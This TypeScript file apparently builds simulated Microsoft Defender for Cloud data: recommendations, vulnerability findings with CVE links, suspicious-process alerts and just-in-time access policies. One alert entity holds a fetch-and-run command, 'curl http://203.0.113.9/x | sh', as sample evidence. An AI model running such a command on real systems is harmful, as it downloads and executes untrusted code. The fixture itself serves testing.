import type { Json, JsonObject } from '../../../../world.ts';
import { type ExtensionRow, type Hanging, hanging, typeAt } from '../../extension-row.ts';
import { builtInPolicyId } from '../governance/policy.ts';

const MACHINE = 'microsoft.compute/virtualmachines';
const VULNERABILITIES = '1195afff-c881-495e-9bc5-1486211ae03f';

type Recommendation = readonly [name: string, displayName: string, severity: string];

/** Recommendations by what they are about, in the order in which a resource gets them. */
const RECOMMENDATIONS: Readonly<Record<string, readonly Recommendation[]>> = {
  'microsoft.keyvault/vaults': [
    ['88bbc99c-e5af-ddd7-6105-6150b2bfa519', 'Diagnostic logs in Key Vault should be enabled', 'Low'],
  ],
  'microsoft.storage/storageaccounts': [
    ['1c5de8e1-f68d-6a17-e0d2-ec259c42768c', 'Secure transfer to storage accounts should be enabled', 'High'],
  ],
  [MACHINE]: [
    [VULNERABILITIES, 'Machines should have vulnerability findings resolved', 'Low'],
    ['06e3a6db-6c0c-4ad9-943f-31d9d73ecf6c', 'EDR solution should be installed on Virtual Machines', 'High'],
  ],
  'microsoft.containerservice/managedclusters': [
    ['c609cf0f-71ab-41e9-a3c6-9a1f7fe1b8d5', 'Containers should have vulnerability findings resolved', 'High'],
  ],
  subscription: [
    ['b1af52e4-e968-4e2b-b6d0-6736c9651f0a', 'Microsoft Defender for Key Vault should be enabled', 'High'],
    ['94290b00-4d0c-d7b4-7cea-064a9554e681', 'Accounts with owner permissions should be MFA enabled', 'High'],
  ],
};

/** An assessment as Resource Graph shows it; ids in lower case and `Id` for `id` in places, as recorded. */
function assessment(it: Hanging): JsonObject {
  const { estate, index, place } = it;
  const [name, displayName, severity] = RECOMMENDATIONS[typeAt(it) ?? 'subscription']?.[place] ?? [
    estate.serial('assessment', index),
    'Custom recommendation',
    'Medium',
  ];
  const code = estate.tenant.pick('assessment', index, ['Healthy', 'Unhealthy', 'Unhealthy', 'NotApplicable']);
  const status: JsonObject = { code, firstEvaluationDate: estate.tenant.daysAgo(300, 'assessment', index) };
  if (code === 'NotApplicable') Object.assign(status, { cause: 'OffByPolicy', description: 'The policy is disabled' });
  const scope = index % 2 === 0 ? it.scope.toLowerCase() : it.scope;
  return hanging({ ...it, scope }, 'Microsoft.Security/assessments', name, {
    displayName,
    resourceDetails: index % 3 === 0 ? { Source: 'Azure', Id: scope } : { source: 'Azure', id: scope },
    status,
    metadata: {
      displayName,
      assessmentType: 'BuiltIn',
      policyDefinitionId: builtInPolicyId(index),
      description: `${displayName}.`,
      remediationDescription: index % 4 === 0 ? null : 'See the portal.',
      categories: [it.at.kind === 'subscription' ? 'IdentityAndAccess' : 'Compute'],
      severity,
      userImpact: 'Low',
      implementationEffort: 'Low',
      threats: ['dataExfiltration', 'accountBreach'],
    },
  });
}

const CVES = ['CVE-2024-3094', 'CVE-2021-44228', 'CVE-2023-38408', 'CVE-2022-3602'] as const;

/** A vulnerability that the assessment of its machine found. */
function subAssessment(it: Hanging): JsonObject {
  const { estate, index } = it;
  const severity = estate.tenant.pick('finding', index, ['Low', 'Medium', 'High', 'Critical']);
  const cve: Json[] = CVES.slice(index % 3, (index % 3) + (index % 5 === 4 ? 0 : 2)).map((title) => ({
    title,
    link: `https://nvd.nist.gov/vuln/detail/${title}`,
  }));
  const finding = hanging(it, 'Microsoft.Security/assessments/subAssessments', estate.serial('finding', index), {
    id: String(178_000 + (index % 1000)),
    displayName: `Security update ${178_000 + (index % 1000)}`,
    status: { code: index % 7 === 6 ? 'NotApplicable' : 'Unhealthy', cause: index % 7 === 6 ? 'Exempt' : '', severity },
    remediation: 'Update the package.',
    impact: index % 4 === 0 ? null : 'An attacker may run code.',
    category: 'Ubuntu',
    description: 'A package has a known vulnerability.',
    timeGenerated: estate.tenant.daysAgo(1, 'finding', index),
    resourceDetails: { source: 'Azure', id: it.scope },
    additionalData: {
      assessedResourceType: 'ServerVulnerability',
      type: 'Vulnerability',
      patchable: index % 3 !== 0,
      cve,
      cvss: { '2.0': { base: 5.1 }, '3.0': { base: 4 + (index % 6) } },
      publishedTime: estate.tenant.daysAgo(400, 'cve', index),
    },
  });
  const name = String(finding.name);
  return {
    ...finding,
    id: `${it.scope}/providers/Microsoft.Security/assessments/${VULNERABILITIES}/subAssessments/${name}`,
  };
}

/** An alert on a machine or on the group; Resource Graph begins the names of fields with a capital, some lists do not. */
function alert(it: Hanging): JsonObject {
  const { estate, index, group } = it;
  const machine = estate.sibling(MACHINE, group, index);
  const resource = machine === undefined ? estate.groupId(group) : estate.ref(MACHINE, machine);
  const name = `2516${String(index).padStart(15, '0')}_${estate.serial('alert', index)}`;
  const status = estate.tenant.pick('alert', index, ['Active', 'Resolved', 'Dismissed', 'InProgress']);
  const started = estate.tenant.daysAgo(20, 'alert', index);
  const properties: JsonObject = {
    status,
    timeGeneratedUtc: started,
    processingEndTimeUtc: started,
    version: '2022-01-01.0',
    vendorName: 'Microsoft',
    productName: 'Microsoft Defender for Cloud',
    productComponentName: 'Servers',
    alertType: 'VM_SuspiciousProcess',
    alertDisplayName:
      index % 3 === 0 ? '[SAMPLE ALERT] "Suspicious" process <executed>' : 'Suspicious process executed',
    startTimeUtc: started,
    endTimeUtc: started,
    severity: estate.tenant.pick('severity', index, ['High', 'Medium', 'Low', 'Informational']),
    isIncident: false,
    systemAlertId: name,
    intent: index % 2 === 0 ? 'Execution' : 'Unknown',
    compromisedEntity: resource.slice(resource.lastIndexOf('/') + 1),
    description: 'A process ran that attackers use.',
    remediationSteps: ['Ask the owner.', 'Isolate the machine.'],
    resourceIdentifiers: [
      { $id: '1', azureResourceId: index % 2 === 0 ? resource.toUpperCase() : resource, type: 'AzureResource' },
      { $id: '2', aadTenantId: estate.tenant.id, type: 'AAD' },
    ],
    entities: [{ $id: '3', type: 'process', commandLine: 'curl http://203.0.113.9/x | sh' }],
    extendedProperties: { resourceType: 'Virtual Machine' },
  };
  const shown = index % 2 === 0 ? properties : capitals(properties);
  const location = estate.region(group);
  return {
    id: `${it.scope}/providers/Microsoft.Security/locations/${location}/alerts/${name}`,
    name,
    type: 'Microsoft.Security/Locations/alerts',
    properties: shown,
  };
}

function capitals(properties: JsonObject): JsonObject {
  return Object.fromEntries(
    Object.entries(properties).map(([name, value]) => {
      const inner =
        name === 'resourceIdentifiers' && Array.isArray(value)
          ? value.map((one) => (typeof one === 'object' && one !== null && !Array.isArray(one) ? capitals(one) : one))
          : value;
      return [`${name.slice(0, 1).toUpperCase()}${name.slice(1)}`, inner];
    }),
  );
}

/** The policy of a group, for the machines that are in it; of a group without machines it is empty. */
function jitPolicy(it: Hanging): JsonObject {
  const { estate, group, index } = it;
  const [from, to] = estate.siblings(MACHINE, group);
  const machines = Array.from({ length: Math.min(2, to - from) }, (_, at) => estate.ref(MACHINE, from + at));
  const location = estate.region(group);
  return {
    id: `${it.scope}/providers/Microsoft.Security/locations/${location}/jitNetworkAccessPolicies/default`,
    name: 'default',
    type: 'Microsoft.Security/locations/jitNetworkAccessPolicies',
    kind: 'Basic',
    location,
    properties: {
      virtualMachines: machines.map((id, at) => ({
        id,
        ports: [
          {
            number: at === 0 ? 22 : 3389,
            protocol: '*',
            allowedSourceAddressPrefix: index % 2 === 0 ? '*' : '203.0.113.0/24',
            maxRequestAccessDuration: 'PT3H',
          },
        ],
      })),
      requests: machines.slice(0, index % 2).map((id) => ({
        virtualMachines: [
          {
            id,
            ports: [
              {
                number: 22,
                allowedSourceAddressPrefix: '203.0.113.7',
                endTimeUtc: estate.tenant.daysAgo(1),
                status: 'Revoked',
                statusReason: 'Expired',
              },
            ],
          },
        ],
        startTimeUtc: estate.tenant.daysAgo(1),
        requestor: 'admin@contoso.com',
        justification: null,
      })),
      provisioningState: 'Succeeded',
    },
  };
}

const threatProtection = (it: Hanging): JsonObject =>
  hanging(it, 'Microsoft.Security/advancedThreatProtectionSettings', 'current', { isEnabled: it.index % 2 === 0 });

const onboarding = (it: Hanging): JsonObject => ({
  ...hanging(it, 'Microsoft.SecurityInsights/onboardingStates', 'default', { customerManagedKey: it.index % 4 === 3 }),
  etag: `"${it.estate.serial('onboarding', it.index)}"`,
});

/** What Defender for Cloud and Sentinel hold of resources. */
export const findingExtensions: readonly ExtensionRow[] = [
  {
    type: 'Microsoft.Security/assessments',
    anchors: {
      subscription: [2, 1, 0, 1, 2],
      'microsoft.keyvault/vaults': [1, 0, 0, 0],
      'microsoft.storage/storageaccounts': [1, 0, 0, 0, 0, 0, 0, 0, 0],
      [MACHINE]: [2, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0],
      'microsoft.containerservice/managedclusters': [1],
    },
    body: assessment,
  },
  // Of the machines whose first assessment is about vulnerabilities.
  {
    type: 'Microsoft.Security/assessments/subAssessments',
    anchors: { [MACHINE]: [2, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0] },
    body: subAssessment,
  },
  { type: 'Microsoft.Security/alerts', anchors: { group: [0, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1] }, body: alert },
  {
    type: 'Microsoft.Security/locations/jitNetworkAccessPolicies',
    anchors: { group: [0, 1, 0, 0, 0, 0, 0, 0, 0] },
    body: jitPolicy,
  },
  {
    type: 'Microsoft.Security/advancedThreatProtectionSettings',
    anchors: { 'microsoft.documentdb/databaseaccounts': [1] },
    body: threatProtection,
  },
  {
    type: 'Microsoft.SecurityInsights/onboardingStates',
    anchors: { 'microsoft.operationalinsights/workspaces': [1, 0, 0] },
    body: onboarding,
  },
];
